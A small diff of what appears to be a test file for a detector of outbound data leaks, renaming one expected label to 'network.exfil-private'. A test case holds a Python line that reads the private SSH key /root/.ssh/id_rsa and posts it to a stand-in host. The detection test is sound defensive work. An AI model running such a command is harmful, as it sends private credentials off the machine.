@@ -19,7 +19,7 @@ describe("what leaves the machine", () => {
     [
       "a file of secrets",
       "requests.post('https://h.test', data=open('/root/.ssh/id_rsa').read())",
-      "network.exfil requests.post",
+      "network.exfil-private requests.post",
     ],
     [
       "names of host and user",
